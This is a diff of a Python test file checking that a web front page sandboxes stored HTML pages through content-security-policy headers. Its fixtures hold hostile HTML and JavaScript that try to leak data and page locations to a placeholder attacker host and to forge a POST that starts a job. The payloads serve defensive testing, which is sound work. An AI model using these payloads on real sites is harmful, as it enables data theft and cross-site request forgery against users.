@@ -1,10 +1,11 @@
 """Files of runs through the front page: whose they are, how they come, and what a stored page may do in a browser."""
 
 import asyncio
-import json
 import re
+from base64 import b64encode
 from collections.abc import Iterator
 from contextlib import closing
+from hashlib import sha256
 from http.client import HTTPConnection
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -15,13 +16,16 @@ from uuid import uuid4
 import httpx
 import pytest
 
+from infra.front_page.access import token
 from infra.front_page.application import application
-from infra.stack_settings import USER, StackSettings
+from infra.front_page.stored_files import GALLERY_SCRIPTS
+from infra.stack_settings import ROOT, USER, StackSettings
 from tasks.storage.object_store import ObjectStore
 from tests.clients import front_page, prefect_api
 from tests.infra.browser import OpenBrowser, Page
 from tests.infra.front_page.test_live import NO_SERVICES
 from tests.infra.front_page.test_s3_events import basic
+from tests.waiting import eventually
 
 RUN = "7c1d2f0e-5b7a-4c3e-9f55-6a3c1b2d4e5f"
 HOSTILE = "<i>&\"' ä%2F#?é.txt"
@@ -33,6 +37,7 @@ def site(stack: StackSettings) -> Iterator[httpx.Client]:
     for bucket in ("runs", "predictions"):
         store = ObjectStore(bucket)
         store.put(f"{RUN}/report.html", b"<!doctype html><title>kept</title>")
+        store.put(f"{RUN}/index.html", b"<!doctype html><title>kept</title>")
         store.put(f"{RUN}/annotated/a.mp4", FILM)
         store.put(f"{RUN}/coco.json", b"{}", "text/html")
         store.put(f"{RUN}/{HOSTILE}", b"odd")
@@ -41,13 +46,6 @@ def site(stack: StackSettings) -> Iterator[httpx.Client]:
     ObjectStore("runs").put("locks/report.html", b"no")
     with front_page(stack) as client:
         yield client
-
-
-def opened(site: httpx.Client, bucket: str = "runs") -> str:
-    """The address that a page of the run is opened at."""
-    answer = site.get(f"/files/{bucket}/{RUN}/report.html")
-    assert answer.status_code == 307
-    return answer.headers["location"]
 
 
 def test_a_file_comes_whole_in_parts_and_not_again(site: httpx.Client) -> None:
@@ -90,31 +88,27 @@ def test_a_name_of_any_signs_is_found_and_what_no_browser_shows_is_saved(site: h
     ],
 )
 def test_what_is_no_file_of_a_run_is_not_there(site: httpx.Client, stack: StackSettings, path: str) -> None:
-    address = f"/files/{path}"
     headers = {"Host": "127.0.0.1", **basic(USER, stack.secrets["front_page"])}
-    while address:
-        # httpx would make another path of it.
-        with closing(HTTPConnection("127.0.0.1", site.base_url.port)) as connection:
-            connection.request("GET", address, headers=headers)
-            answer = connection.getresponse()
-            address = answer.headers["location"] or ""
-    assert answer.status == 404
+    # httpx would make another path of it.
+    with closing(HTTPConnection("127.0.0.1", site.base_url.port)) as connection:
+        connection.request("GET", f"/files/{path}", headers=headers)
+        assert connection.getresponse().status == 404
 
 
-def test_a_ticket_is_for_the_files_of_its_run_and_needs_no_password(site: httpx.Client) -> None:
-    address = opened(site)
-    ticket = address.split("/")[2]
-    with httpx.Client(base_url=site.base_url) as stranger:
-        page = stranger.get(address, headers={"Origin": "null", "Sec-Fetch-Site": "cross-site"})
-        assert "<title>kept" in page.text
-        assert stranger.get(address.replace("report.html", "annotated/a.mp4")).content == FILM
-        assert stranger.get(f"/opened/{ticket}/runs/{uuid4()}/report.html").status_code == 403
-        assert stranger.get(f"/opened/{ticket}/predictions/{RUN}/report.html").status_code == 403
-        assert stranger.get(f"/files/runs/{RUN}/report.html").status_code == 401
-    policy = page.headers["content-security-policy"]
-    assert re.match(r"sandbox allow-downloads [^;]*; default-src 'none'", policy)
-    assert "allow-same-origin" not in policy
-    assert page.headers["referrer-policy"] == "no-referrer"
+def test_galleries_of_every_version_have_their_script(site: httpx.Client) -> None:
+    """If the script has changed, append its hash; those before it are of galleries that are stored already."""
+    script = (ROOT / "tasks/rendering/templates/gallery.js").read_bytes()
+    assert f"'sha256-{b64encode(sha256(script).digest()).decode()}'" == GALLERY_SCRIPTS[-1]
+    policies = {
+        path: site.head(f"/files/{path}").headers["content-security-policy"]
+        for path in (f"predictions/{RUN}/index.html", f"predictions/{RUN}/report.html", f"runs/{RUN}/index.html")
+    }
+    scripts = {path: re.findall(r"allow-same-origin|script-src [^;]*", policy) for path, policy in policies.items()}
+    assert scripts.pop(f"predictions/{RUN}/index.html") == [
+        "allow-same-origin",
+        f"script-src {' '.join(GALLERY_SCRIPTS)}",
+    ]
+    assert list(scripts.values()) == [["script-src 'none'"]] * 2
 
 
 def test_a_store_that_is_away_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -132,42 +126,36 @@ def test_a_store_that_is_away_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
 
 # ---- a hostile page, in a browser -----------------------------------------------------------------------------------
 
-# What it learns, it says to whoever has framed it, shows in its title, and tries to send to its author.
-ATTACK = """<!doctype html><title>begun</title><body><script>(async () => {
-const learned = [];
-const attempt = async (name, what) => { try { learned.push([name, String(await what())]); } catch {} };
-const timed = promise => Promise.race([promise, new Promise((_, fail) => setTimeout(fail, 2000))]);
-const start = {method: 'POST', body: new URLSearchParams({archive: 'MARK'})};
-await attempt('read', async () => (await timed(fetch('/predictions/list'))).text());
-await attempt('files', async () => (await timed(fetch('coco.json'))).text());
-await attempt('start', async () => (await timed(fetch('/start/validate-dataset', start))).text());
-await attempt('blindly', async () => (await timed(fetch('/start/validate-dataset', {...start, mode: 'no-cors'}))).type);
-await attempt('events', async () => (await timed(fetch('/s3-events', start))).text());
-await attempt('parent', () => parent !== window && parent.document.title);
-await attempt('storage', () => localStorage.length);
-await attempt('frame', () => timed(new Promise((done, fail) => {
-  const frame = document.createElement('iframe');
-  frame.onload = () => { try { done(frame.contentDocument.title) } catch { fail() } };
-  frame.src = '/predictions'; document.body.append(frame); })));
-const image = new Image(); image.src = 'AUTHOR/leak?' + location;
-const form = document.createElement('form'); form.method = 'POST'; form.action = '/start/validate-dataset';
-form.innerHTML = '<input name=archive value=MARK>'; document.body.append(form); form.submit();
-await attempt('navigate', () => { if (parent !== window) top.location = 'AUTHOR/top'; throw 0; });
-document.title = JSON.stringify(learned.filter(([, what]) => what !== 'false'));
-parent.postMessage(document.title, '*');
-})()</script>"""
+# Every way to tell its author something: by a script, and without one.
+HOSTILE_GALLERY = """<!doctype html><title>kept</title><meta name=referrer content=unsafe-url>
+<meta http-equiv=refresh content='2;url=AUTHOR/refresh'><base href='AUTHOR/base/'>
+<link rel=stylesheet href='AUTHOR/style'><link rel=prefetch href='AUTHOR/prefetch'><link rel=icon href='AUTHOR/icon'>
+<style>@import 'AUTHOR/import'; @font-face { font-family: x; src: url(AUTHOR/font) }
+body { font-family: x; background: url(AUTHOR/background) }</style>
+<body>text<img src='AUTHOR/img'><video src='AUTHOR/video' autoplay></video><object data='AUTHOR/object'></object>
+<iframe src='AUTHOR/iframe'></iframe><svg><image href='AUTHOR/svg'/></svg><img src=x onerror='RUN'>
+<form method=POST action='/start/validate-dataset'><input name=archive value=MARK><button></button></form>
+<form action='AUTHOR/form'><button></button></form><a href='AUTHOR/link' ping='AUTHOR/ping'></a>
+<a href='AUTHOR/top' target=_top></a><a href='javascript:RUN'></a><script src='AUTHOR/script'></script>
+<script>RUN</script>"""
+SCRIPT = (
+    "document.title = 'run'; new Image().src = 'AUTHOR/leak'; location = 'AUTHOR/led';"
+    "fetch('/start/validate-dataset', {method: 'POST', body: new URLSearchParams({archive: 'MARK'})})"
+)
 
 
 @pytest.fixture
-def author() -> Iterator[tuple[str, list[str]]]:
-    """The address of whoever has written the page, and what arrives there."""
-    arrived: list[str] = []
+def author() -> Iterator[tuple[str, dict[str, str]]]:
+    """The address of whoever has written the page, and what arrives there: headers by path."""
+    arrived: dict[str, str] = {}
 
     class Author(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
-            arrived.append(self.path)
+            arrived[self.path] = str(self.headers)
             self.send_response(204)
             self.end_headers()
+
+        do_POST = do_GET  # noqa: N815 - the name that http.server calls
 
         def log_message(self, *_: object) -> None:
             """Say nothing."""
@@ -193,31 +181,37 @@ def checks_of(stack: StackSettings, archive: str) -> int:
     return sum(run["parameters"].get("archive") == archive for run in runs)
 
 
-def test_a_stored_page_reads_and_starts_nothing(
-    stack: StackSettings, site: httpx.Client, signed_in: Page, author: tuple[str, list[str]]
+def test_a_hostile_gallery_runs_no_script_and_tells_its_author_nothing(
+    stack: StackSettings, site: httpx.Client, signed_in: Page, author: tuple[str, dict[str, str]]
 ) -> None:
     mark = f"{uuid4().hex}.zip"
-    page = ATTACK.replace("AUTHOR", author[0]).replace("MARK", mark)
-    ObjectStore("predictions").put(f"{RUN}/index.html", page.encode(), "text/html")
-    base = str(site.base_url).rstrip("/")
+    gallery = HOSTILE_GALLERY.replace("RUN", SCRIPT.replace("'", "&#39;"), 2).replace("RUN", SCRIPT)
+    gallery = gallery.replace("AUTHOR", author[0]).replace("MARK", mark)
+    ObjectStore("predictions").put(f"{RUN}/index.html", gallery.encode(), "text/html")
 
-    signed_in.js("window.told = null; addEventListener('message', event => told = event.data)")
+    # In the page it leads nowhere, whatever a person clicks.
     signed_in.js(
-        "document.body.append(Object.assign(document.createElement('iframe'), "
-        f"{{src: '/files/predictions/{RUN}/index.html'}}))"
+        "window.refused = 0; addEventListener('securitypolicyviolation', event => refused += event.violatedDirective"
+        " === 'frame-src'); window.frame = document.createElement('iframe');"
+        f"frame.src = '/files/predictions/{RUN}/index.html'; document.body.append(frame)"
     )
-    assert json.loads(signed_in.wait("told")) == []
-    assert signed_in.js("location.pathname") == "/predictions"
+    signed_in.wait("frame.contentDocument?.querySelectorAll('a').length === 3")
+    assert signed_in.js("frame.contentDocument.title") == "kept"
+    signed_in.js("for (const each of frame.contentDocument.querySelectorAll('button, a')) each.click()")
+    signed_in.wait("refused > 0")
+    assert (signed_in.js("location.pathname"), author[1]) == ("/predictions", {})
 
-    signed_in.open(f"{base}/files/predictions/{RUN}/index.html")
-    assert json.loads(signed_in.wait("document.title.startsWith('[') && document.title")) == []
-    assert signed_in.js("location.pathname").startswith("/opened/")
-    assert author[1] == []
+    # In a tab of its own it can lead away, and has nothing to tell there.
+    signed_in.call("Page.navigate", url=f"{str(site.base_url).rstrip('/')}/files/predictions/{RUN}/index.html")
+    eventually(lambda: author[1], "the author's site")
+    assert list(author[1]) == ["/refresh"]
+    secrets = [stack.secrets["front_page"], token(stack.secrets["front_page"]), "uthorization"]
+    assert not [secret for secret in secrets if secret in author[1]["/refresh"]]
     assert checks_of(stack, mark) == 0
 
 
 def test_that_page_would_do_all_of_it_as_a_page_of_ours(stack: StackSettings, signed_in: Page) -> None:
-    """The same requests from a page of the front page's own, with its token, read and start: the sandbox stops it."""
+    """The same request from a page of the front page's own, with its token, starts a run."""
     mark = f"{uuid4().hex}.zip"
     token = "{'X-Studio-Token': document.querySelector('meta[name=studio-token]').content}"
     start = f"{{method: 'POST', headers: {token}, body: new URLSearchParams({{archive: '{mark}'}})}}"
